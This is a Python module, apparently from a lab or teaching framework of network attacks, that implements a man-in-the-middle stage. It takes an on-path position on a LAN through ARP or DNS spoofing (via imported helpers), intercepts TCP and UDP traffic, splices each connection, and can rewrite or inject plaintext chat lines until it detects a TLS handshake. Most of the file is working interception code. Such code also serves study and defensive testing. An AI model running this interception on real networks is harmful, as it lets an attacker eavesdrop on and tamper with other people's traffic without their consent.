"""Holding what comes by: what the attacks of position `on-path` share.

On the LAN the position is taken, in one of the ways of `attacks.position`; all frames then come to Mallory, her kernel
forwards what she does not want and hands her what she does. On loopback the bench hands her the relay instead.
"""

import asyncio
import contextlib
import socket
from collections.abc import AsyncIterator, Callable, Iterator
from typing import Final

from attacks import Foothold
from attacks.intercept import connections, datagrams, tasks
from attacks.position import forging, position
from common.lan import LanHost
from common.loopback import Intercepted, InterceptTcp, InterceptUdp, LoopbackHost
from common.session import Address

TLS_HANDSHAKE: Final = 0x16
"""The first byte of a TLS connection (RFC 8446, section 5.1); no line of the chat begins with it."""

Piece = bytes
"""A line, without its newline; where a connection is encrypted, whatever arrived together."""
Rewrite = Callable[[Piece], list[Piece]]
"""Gets a piece that goes by, returns the pieces that go on instead."""


@contextlib.asynccontextmanager
async def on_path(
    foothold: Foothold, tcp: InterceptTcp, udp: InterceptUdp | None = None, way: str = ""
) -> AsyncIterator[None]:
    """Be between all the hosts until the block ends; then put everything back.

    way: how to get there, on the LAN; where none is given, as the foothold says, or by ARP.
    """
    host = foothold.host
    if isinstance(host, LoopbackHost):
        host.network.intercept_tcp, host.network.intercept_udp = tcp, udp
        try:
            yield
        finally:
            host.network.intercept_tcp = host.network.intercept_udp = None
    elif isinstance(host, LanHost):
        async with _taken(foothold, host, way or foothold.via or "arp_spoofing", tcp, udp):
            yield
    else:
        async with _relaying(foothold, tcp):
            yield


@contextlib.asynccontextmanager
async def _taken(
    foothold: Foothold, host: LanHost, way: str, tcp: InterceptTcp, udp: InterceptUdp | None
) -> AsyncIterator[None]:
    name, port = foothold.server
    server = (await host.resolve(name), port)  # now, while everybody is still told the truth
    forge = forging(name, host.address, foothold.note) if way == "dns_spoofing" else None
    came: list[Address] = []

    async def take(intercepted: Intercepted) -> None:
        came.append(intercepted.client)
        await tcp(intercepted)

    async with contextlib.AsyncExitStack() as stack:
        cards = await stack.enter_async_context(position(foothold, host, way))
        if udp or forge:
            stack.enter_context(datagrams(host, cards, udp or untouched, forge))
        await stack.enter_async_context(connections(host, server, take))
        yield
        if not came:
            foothold.missed("not one connection came to her card; what she said was not believed, or nobody asked her")


def untouched(payload: bytes, source: Address, target: Address) -> bytes:
    """Let a datagram go on as it is."""
    return payload


@contextlib.asynccontextmanager
async def _relaying(foothold: Foothold, tcp: InterceptTcp) -> AsyncIterator[None]:
    """By hand there is no ARP to forge: the clients are pointed at us by whoever starts them."""
    listener = await foothold.host.listen(0)
    server = foothold.server

    async def serve() -> None:
        async with tasks() as start:
            while True:
                sock, client = await asyncio.get_running_loop().sock_accept(listener)
                start(tcp(Intercepted(sock, client, server, lambda: foothold.host.connect(*server))))

    accepting = asyncio.create_task(serve())
    foothold.note(f"Start the clients with SERVER={foothold.host.address}:{listener.getsockname()[1]}")
    try:
        yield
    finally:
        accepting.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await accepting
        listener.close()


class Pieces:
    """Cuts a stream into lines, up to where it is encrypted."""

    def __init__(self) -> None:
        self.ending = b"\n"
        """What goes behind each piece."""
        self._begun = b""

    def feed(self, data: bytes) -> Iterator[Piece]:
        """Take what arrived, yield the pieces that are complete."""
        while data and self.ending:
            if not self._begun and data[0] == TLS_HANDSHAKE:
                self.ending = b""
                break
            line, newline, data = data.partition(b"\n")
            self._begun += line
            if newline:
                line, self._begun = self._begun, b""
                yield line
        if data:
            yield data


class Splice:
    """One intercepted connection, piece by piece: each direction flows on, through its `Rewrite` where one is given."""

    def __init__(
        self, intercepted: Intercepted, from_client: Rewrite | None = None, from_server: Rewrite | None = None
    ) -> None:
        self.client = intercepted.client
        self._intercepted = intercepted
        self._from_client = from_client
        self._from_server = from_server
        self._onward: socket.socket | None = None
        self._pieces = Pieces()

    async def to_server(self, piece: Piece) -> None:
        """Put a piece of one's own into the client's connection; where it has ended, nothing happens."""
        if self._onward:
            with contextlib.suppress(OSError):
                await asyncio.get_running_loop().sock_sendall(self._onward, piece + self._pieces.ending)

    def cut(self) -> None:
        """End the connection, towards both."""
        for sock in (self._intercepted.sock, self._onward):
            if sock:
                with contextlib.suppress(OSError):  # it has ended already
                    sock.shutdown(socket.SHUT_RDWR)

    async def run(self) -> None:
        """Carry until both ends are done."""
        with await self._intercepted.dial() as self._onward:
            await asyncio.gather(
                _carry(self._intercepted.sock, self._onward, self._pieces, self._from_client),
                _carry(self._onward, self._intercepted.sock, Pieces(), self._from_server),
            )


async def _carry(source: socket.socket, sink: socket.socket, pieces: Pieces, rewrite: Rewrite | None) -> None:
    loop = asyncio.get_running_loop()
    with contextlib.suppress(OSError):
        while data := await loop.sock_recv(source, 1 << 16):
            if rewrite:
                data = b"".join(out + pieces.ending for piece in pieces.feed(data) for out in rewrite(piece))
            if data:
                await loop.sock_sendall(sink, data)
    with contextlib.suppress(OSError):
        sink.shutdown(socket.SHUT_WR)
